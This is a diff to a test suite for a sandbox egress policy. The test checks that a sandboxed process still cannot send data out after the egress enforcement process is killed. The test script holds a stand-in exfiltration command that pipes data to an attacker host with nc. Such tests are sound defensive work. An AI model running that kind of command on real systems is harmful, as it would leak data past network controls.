@@ -195,22 +195,20 @@ describe.skipIf(process.getuid?.() !== 0)("an egress policy", () => {
     const { guest, server, sandbox } = await guarded("killed", { allow: [attacker] });
     expect(await guest(...echo(attacker))).toBe("hello\n");
     // A command that is there before, since the next call would mend it.
-    const talk = sandbox.exec([
-      "sh",
-      "-c",
-      `read line; echo leak | nc -w 1 ${attacker} 22; echo done`,
-    ]);
+    const script = `echo ready; read line; echo leak | nc -w 1 ${attacker} 22; echo done`;
+    const talk = sandbox.exec(["sh", "-c", script]);
     const input = talk.stdin;
+    const lines = talk.lines()[Symbol.asyncIterator]();
+    expect((await lines.next()).value).toBe("ready");
     const { vc } = instance;
     const ledger = readFileSync(join(instance.stateDir, "sbs/killed/ledger"), "utf8");
     const pid = Number(/"name":"egress"[^\n]*"pid":(\d+)/.exec(ledger)?.[1]);
     process.kill(pid, "SIGKILL");
-    expect(
-      await onWire(server, async () => {
-        input.end("go\n");
-        expect((await talk).stdout).toBe("done\n");
-      }),
-    ).toEqual([]);
+    const wire = await onWire(server, async () => {
+      input.end("go\n");
+      expect((await lines.next()).value).toBe("done");
+    });
+    expect(wire).toEqual([]);
     const again = await vc.fetchSandbox("killed");
     expect((await again.exec(echo(attacker))).stdout).toBe("hello\n");
   });
